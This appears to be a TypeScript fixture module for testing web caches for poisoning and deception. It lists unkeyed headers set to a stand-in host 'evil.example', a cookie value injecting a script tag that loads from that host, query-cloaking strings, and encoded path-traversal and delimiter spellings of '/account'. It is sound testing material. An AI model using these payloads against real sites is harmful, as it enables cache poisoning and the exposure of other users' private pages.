/** Tries to shape a stored response by what is not part of its key, and to have a personal one stored. Data only. */

/** Stands in every try; a clean reader must never see it. */
export const EVIL = 'evil.example';

type Try = readonly [header: string, value: string];

const HOSTS = [
  'X-Forwarded-Host',
  'X-Forwarded-Server',
  'X-Forwarded-Prefix',
  'X-Forwarded-Path',
  'X-Forwarded-Uri',
  'X-Forwarded-Url',
  'X-Forwarded-By',
  'X-Forwarded-For',
  'X-Host',
  'X-HTTP-Host-Override',
  'X-Original-Host',
  'X-Proxy-Host',
  'X-Backend-Host',
  'X-Original-URL',
  'X-Rewrite-URL',
  'X-HTTP-DestinationURL',
  'X-HTTP-Path-Override',
  'X-Accel-Redirect',
  'X-Wap-Profile',
  'X-Real-IP',
  'X-Client-IP',
  'X-Cluster-Client-IP',
  'X-Originating-IP',
  'X-Remote-Addr',
  'True-Client-IP',
  'CF-Connecting-IP',
  'CF-Ray',
  'CF-Visitor',
  'CF-IPCountry',
  'Fastly-Client-IP',
  'Fastly-SSL',
  'Base-Url',
  'Destination',
  'Origin',
  'Referer',
  'From',
  'User-Agent',
  'Via',
  'Cookie2',
  'DNT',
  'Save-Data',
  'Pragma',
  'Warning',
  'Max-Forwards',
  'Proxy-Authorization',
  'Authentication',
  'X-Requested-With',
  'X-Api-Version',
  'X-CSRF-Token',
  'X-Correlation-ID',
  'X-Amzn-Trace-Id',
  'Traceparent',
  'Tracestate',
  'X-Timer',
  'X-Oversized',
] as const;

export const POISON: readonly Try[] = [
  ...HOSTS.map((name): Try => [name, EVIL]),
  ['Forwarded', `for=1.2.3.4;host=${EVIL};proto=http`],
  ['X-Forwarded-Scheme', `nothttps-${EVIL}`],
  ['X-Forwarded-Proto', `http-${EVIL}`],
  ['X-Forwarded-Port', `1337-${EVIL}`],
  ['X-Forwarded-SSL', `off-${EVIL}`],
  ['Front-End-Https', `off-${EVIL}`],
  ['X-HTTP-Method-Override', `POST-${EVIL}`],
  ['X-HTTP-Method', `DELETE-${EVIL}`],
  ['X-Method-Override', `PURGE-${EVIL}`],
  ['X-Middleware-Subrequest', `middleware:${EVIL}`],
  ['X-Middleware-Prefetch', EVIL],
  ['X-Nextjs-Data', EVIL],
  ['RSC', EVIL],
  ['Next-Router-State-Tree', EVIL],
  ['X-Request-ID', `${EVIL}-request`],
  ['CDN-Loop', EVIL],
  ['Cookie', `theme=${EVIL}`],
  ['Cookie', `lang="><script src=//${EVIL}>`],
  ['Accept', `text/${EVIL}`],
  ['Accept', `application/json, ${EVIL}`],
  ['Accept-Language', `${EVIL}, de`],
  ['Accept-Encoding', `${EVIL}, identity;q=0`],
  ['Accept-Charset', EVIL],
  ['Accept-Version', EVIL],
  ['Cache-Control', `no-cache, ${EVIL}`],
  ['Cache-Control', `no-store, max-age=0, ${EVIL}`],
  ['If-None-Match', `"${EVIL}"`],
  ['If-Modified-Since', `Thu, 01 Jan 1970 00:00:00 GMT ${EVIL}`],
  ['If-Range', `"${EVIL}"`],
  ['Range', `bytes=0-1,${EVIL}`],
  ['Range', `${EVIL}=0-1`],
  ['Range', 'bytes=999999999-'],
  ['Connection', `close, ${EVIL}`],
  ['TE', `trailers, ${EVIL}`],
  ['Prefer', `respond-async, ${EVIL}`],
  ['Content-Type', `text/html; ${EVIL}`],
  ['Content-Location', `//${EVIL}/`],
  ['X-Padding', `${EVIL}${'a'.repeat(6_000)}`],
  ['X-Meta', `${EVIL}\t"<>'{}|\\^\``],
];

/** Queries whose differences a key might overlook. The same path without them is what the reader asks for. */
export const CLOAKED: readonly string[] = [
  `?utm_content=x;cb=${EVIL}`,
  `?utm_source=${EVIL}`,
  `?fbclid=1&utm_medium=${EVIL}`,
  `?_ga=1;utm_content=${EVIL}`,
  `?gclid=%26cb=${EVIL}`,
  `?utm_x=1%26cb%3D${EVIL}`,
  `?&&utm_term=${EVIL}&&`,
  `?mc_eid=?cb=${EVIL}`,
  `?utm_a[]=${EVIL}`,
];

const DELIMITERS = [...'!"$&\'()*+,-.:;<=>@[]^_`{|}~'].map((character) => {
  const code = character.charCodeAt(0).toString(16).padStart(2, '0');
  return { raw: /["<>^`{|}]/.test(character) ? undefined : character, encoded: `%${code}` };
});

const CONTROLS = ['%00', '%09', '%0a', '%0A', '%0d%0a', '%20', '%23', '%25', '%2f', '%3b', '%3f', '%5c', '%7f'];
const SUFFIXES = ['/x.css', '/x.js', '/x.png', '/x.ico', '.css', '.js', '.avif', '/index.html', '/robots.txt'];
const JOINED = [';x.css', '%3Bx.css', '%23x.css', '%3Fx.css', '%2Fx.css', '%2fx.css', '%0ax.css', '%00x.css'];
const TRAVERSALS = [
  '/..%2fassets/x.css',
  '/%2e%2e%2fassets/x.css',
  '/..%5cassets%5cx.css',
  '/..;/assets/x.css',
  '/%252e%252e%252fassets/x.css',
  '/..%252fassets/x.css',
];

const SPELLINGS = [
  '/account',
  '/account/',
  '/account?x.css',
  '/account?v=1.css&utm_source=x',
  ...SUFFIXES.map((suffix) => `/account${suffix}`),
  ...JOINED.map((suffix) => `/account${suffix}`),
  ...CONTROLS.map((control) => `/account${control}x.css`),
  ...DELIMITERS.flatMap(({ raw, encoded }) => [
    ...(raw === undefined ? [] : [`/account${raw}x.css`]),
    `/account${encoded}x.css`,
  ]),
  ...TRAVERSALS.map((traversal) => `/account${traversal}`),
  '/assets/..%2faccount',
  '/assets/..%2Faccount%3fx.css',
  '/assets/%2e%2e/account',
  '/assets/%2e%2e%2faccount',
  '/assets/..;/account',
  '/assets/%252e%252e%252faccount',
  '/assets/x.css/..%2f..%2faccount',
  '/assets/x.css%2f..%2f..%2faccount',
  '/robots.txt/..%2faccount',
  '//account',
  '/./account/x.css',
  '/%61ccount/x.css',
  '/ACCOUNT/x.css',
  '/account\\x.css',
];

/** Ways to write `/account` that a careless origin answers with the account, and a careless cache takes for an asset. */
export const DECEPTION: readonly string[] = [...new Set(SPELLINGS)];
